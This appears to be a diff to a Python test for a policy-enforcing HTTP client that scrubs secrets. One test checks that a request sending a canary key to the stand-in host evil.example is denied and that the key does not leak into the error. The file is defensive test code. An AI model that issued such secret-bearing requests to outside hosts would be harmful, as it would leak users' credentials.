@@ -163,12 +163,13 @@ def test_codex_auth_json_token_never_leaks(server: LoopbackServer, tmp_path: Pat
 
 
 def test_policy_denial_of_a_url_carrying_a_key() -> None:
-    Secret(PLAIN_CANARY)  # a live credential the scrubber knows
+    live = Secret(PLAIN_CANARY)  # a live credential the scrubber knows
     client = PolicyHTTPClient(NetworkPolicy())
     with pytest.raises(PolicyViolation) as info:
         client.request("GET", f"https://evil.example/{PLAIN_CANARY}?key={CANARY}")
     # Not the frame locals: the URL the caller wrote is still the caller's argument there.
     assert_clean(info.value, CANARY, PLAIN_CANARY, with_locals=False)
+    assert live.reveal() == PLAIN_CANARY  # (kept alive until here)
 
 
 @pytest.mark.parametrize("bad", [CANARY + "\u200b", CANARY + "\n", "\u00e9" + CANARY])
